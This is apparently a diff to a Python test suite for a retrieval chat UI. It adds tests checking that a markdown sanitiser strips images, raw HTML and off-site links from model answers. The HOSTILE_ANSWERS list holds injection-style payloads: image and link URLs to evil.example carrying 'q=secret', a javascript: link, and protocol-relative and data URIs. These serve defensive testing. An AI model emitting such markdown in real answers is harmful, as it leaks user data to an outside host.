@@ -159,6 +159,11 @@ def test_chat_handler_shows_uncited_passages_as_not_cited() -> None:
             yield Sources(cited=[], retrieved=[_passage(1)])
             yield Done("The first ferry leaves at 07:40.", "t9", "openai:x", 0.1)
 
+        def answer(self, question: str, thread_id: str | None, choices: SessionChoices, client: str) -> Any:
+            from ui.answering import AnswerSlots, start
+
+            return start(lambda cancel: self.stream(question, thread_id, choices), AnswerSlots(1, 1), client, 5)
+
     handlers = chat_tab.ChatHandlers(Uncited(), SessionChoices())  # type: ignore[arg-type]
     *_, (_, panel, thread_id) = handlers.chat("When is the first ferry?", [], "", "", 5, "hybrid", 0.2)
     assert thread_id == "t9" and "Retrieved, not cited" in panel and "[1]" not in panel
@@ -192,6 +197,57 @@ def test_answers_leaderboard_is_coloured_by_the_cli_thresholds() -> None:
         assert _shade(name, value).startswith(f"[{colour}]"), (name, value)
         shade = {"green": "good", "yellow": "fair", "red": "poor"}[colour]
         assert f'class="metric {shade}"' in formatting.figure_cell(name, value)
+
+
+# A steered answer's ways to make the page load or link elsewhere, in CommonMark and in the HTML it allows.
+HOSTILE_ANSWERS = [
+    "Costs $70 ![x](http://evil.example/p.png?q=secret) [1].",
+    "![x](<http://evil.example/a b.png> 'title') and ![y][img]\n\n[img]: http://evil.example/i.png",
+    "[click](http://evil.example/?q=secret) [two](HTTP://EVIL.EXAMPLE) [js](javascript:alert(1))",
+    "[a [nested] link](http://evil.example/n) and [deep](http://evil.example/a((b)))",
+    "[ref][r] [r] [R] [s] [t]\n\n[r]: http://evil.example/r\n\n- [s]: http://evil.example/s\n\n> [t]: <http://evil.example/t>",
+    '<img src="http://evil.example/i.png"> <a href="http://evil.example">a</a>\n\n<div>\n<img src=x>\n</div>',
+    "<http://evil.example/auto> <mailto:a@evil.example> <IMG SRC=http://evil.example/x>",
+    "\\`[x](http://evil.example/e)` and ``[y](http://evil.example/f)`",
+    "``` a`b\n[x](http://evil.example/g)\n```\n[z](http://evil.example/h)",
+    "![x](//evil.example/p.png) [y](//evil.example/q) ![d](data:image/png;base64,AAAA)",
+    "[x\n](http://evil.example/split) [y](\nhttp://evil.example/split2\n)",
+]
+
+
+def _rendered_addresses(markdown: str) -> tuple[list[str], list[str]]:
+    """(what images and raw HTML a CommonMark parser finds, where its links point): an oracle apart from
+    `safe_markdown`'s own patterns."""
+    from markdown_it import MarkdownIt
+
+    loads, links = [], []
+    stack = MarkdownIt("commonmark").parse(markdown)
+    while stack:
+        token = stack.pop()
+        stack.extend(token.children or [])
+        if token.type in ("image", "html_inline", "html_block"):
+            loads.append(f"{token.type}: {token.attrs.get('src') or token.content}")
+        if token.type == "link_open":
+            links.append(str(token.attrs["href"]))
+    return loads, links
+
+
+@pytest.mark.parametrize("answer", HOSTILE_ANSWERS)
+def test_a_models_answer_renders_no_image_and_no_link_away_from_home(answer: str) -> None:
+    from ui.safe_markdown import safe_markdown
+
+    assert _rendered_addresses(answer) != ([], [])  # the case is hostile as written
+    loads, links = _rendered_addresses(safe_markdown(answer, ["https://example.org/page"]))
+    assert loads == [] and [link for link in links if "evil" in link.lower()] == []
+
+
+def test_citations_and_links_home_or_to_recorded_sources_stay() -> None:
+    from ui.safe_markdown import safe_markdown
+
+    answer = "See [the page](https://example.org/page) [1] and [the app](http://127.0.0.1:7860/x) [2]. `code [3]`"
+    shown = safe_markdown(answer, ["https://example.org/page"])
+    assert shown == answer
+    assert _rendered_addresses(shown) == ([], ["https://example.org/page", "http://127.0.0.1:7860/x"][::-1])
 
 
 def test_answer_details_open_to_the_answer_its_passages_and_flags_all_escaped() -> None:
@@ -641,7 +697,8 @@ def test_warm_up_builds_the_default_agent_before_the_first_question(api_app: Run
     svc = Services(api_app.parts, MODELS)
     assert svc._agents == {}
     svc.warm_up()
-    assert list(svc._agents) == [svc.default_choices()]  # the first question finds it built
+    defaults = svc.default_choices()
+    assert list(svc._agents) == [(defaults.model, defaults.k, defaults.mode)]  # the first question finds it built
 
 
 def test_routes_beside_the_ui_refuse_a_websocket_without_the_login() -> None:
